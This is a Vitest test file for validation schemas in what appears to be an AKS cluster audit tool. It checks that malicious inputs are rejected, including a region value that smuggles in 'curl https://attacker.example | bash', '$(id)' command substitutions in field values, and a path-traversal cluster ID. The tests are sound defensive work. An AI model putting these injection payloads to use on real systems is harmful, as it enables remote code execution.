import { describe, expect, it } from "vitest";
import { newRunSchema, storageNameCheckSchema } from "./schemas";

const valid = {
  subscriptionIds: ["602d1a18-a35e-4b89-a27e-56cb26da2c7b"],
  clusterIds: [
    "/subscriptions/602d1a18-a35e-4b89-a27e-56cb26da2c7b/resourceGroups/rg/providers/Microsoft.ContainerService/managedClusters/a",
  ],
  storage: [
    {
      region: "eastus",
      subscriptionId: "602d1a18-a35e-4b89-a27e-56cb26da2c7b",
      resourceGroup: "rg-aks-audit",
      accountName: "kubeauditeus123456",
    },
  ],
  restrictNetwork: false,
  retentionDays: 30,
  secretLifetimeDays: 180,
};

describe("newRunSchema", () => {
  it("accepts the defaults", () => {
    expect(newRunSchema.safeParse(valid).success).toBe(true);
  });

  it.each([
    ["retention under 7 days", { retentionDays: 6 }, "retentionDays"],
    ["a secret over 730 days", { secretLifetimeDays: 731 }, "secretLifetimeDays"],
    ["no cluster", { clusterIds: [] }, "clusterIds"],
    ["an invalid account name", { storage: [{ ...valid.storage[0], accountName: "Kube_Audit" }] }, "storage"],
    ["a bad resource group", { storage: [{ ...valid.storage[0], resourceGroup: "rg." }] }, "storage"],
    [
      "a region that breaks out of a script line",
      { storage: [{ ...valid.storage[0], region: "x)\ncurl https://attacker.example | bash\n#" }] },
      "storage.0.region",
    ],
    ["a region with a space", { storage: [{ ...valid.storage[0], region: "east us" }] }, "storage.0.region"],
    ["an empty region", { storage: [{ ...valid.storage[0], region: "" }] }, "storage.0.region"],
    [
      "a storage subscription that is not a GUID",
      { storage: [{ ...valid.storage[0], subscriptionId: "$(id)" }] },
      "storage.0.subscriptionId",
    ],
    ["a resource group with shell syntax", { storage: [{ ...valid.storage[0], resourceGroup: "rg;$(id)" }] }, "storage.0.resourceGroup"],
    [
      "a resource group over 90 characters",
      { storage: [{ ...valid.storage[0], resourceGroup: "r".repeat(91) }] },
      "storage.0.resourceGroup",
    ],
    ["an account name with a newline", { storage: [{ ...valid.storage[0], accountName: "kubeaudit\nx" }] }, "storage.0.accountName"],
    ["a cluster id that is not an AKS id", { clusterIds: ["/subscriptions/x/../../etc"] }, "clusterIds.0"],
    ["a cluster name with a newline", { clusterIds: [`${valid.clusterIds[0]}\n#`] }, "clusterIds.0"],
    ["a tag name Azure refuses", { tags: { "cost/center": "1" } }, "tags"],
    ["the same tag twice in different case", { tags: { costCenter: "1", CostCenter: "2" } }, "tags"],
    ["a tag value over 256 characters", { tags: { costCenter: "x".repeat(257) } }, "tags"],
  ])("refuses %s", (_label, patch, field) => {
    const result = newRunSchema.safeParse({ ...valid, ...patch });
    expect(result.success).toBe(false);
    expect(result.error?.issues[0]?.path.join(".").startsWith(field)).toBe(true);
  });

  it("takes tags for what the run creates", () => {
    expect(newRunSchema.safeParse({ ...valid, tags: { costCenter: "cc-4711", env: "" } }).data?.tags).toEqual({
      costCenter: "cc-4711",
      env: "",
    });
  });

  it("takes a region's name in lowercase", () => {
    const result = newRunSchema.safeParse({ ...valid, storage: [{ ...valid.storage[0], region: "EastUS2" }] });
    expect(result.data?.storage[0]?.region).toBe("eastus2");
  });
});

describe("storageNameCheckSchema", () => {
  it("trims and validates", () => {
    expect(
      storageNameCheckSchema.safeParse({ subscriptionId: valid.subscriptionIds[0], resourceGroup: " rg ", accountName: " abc123 " })
        .success,
    ).toBe(true);
    expect(storageNameCheckSchema.safeParse({ subscriptionId: "x", resourceGroup: "rg", accountName: "abc" }).success).toBe(false);
  });
});
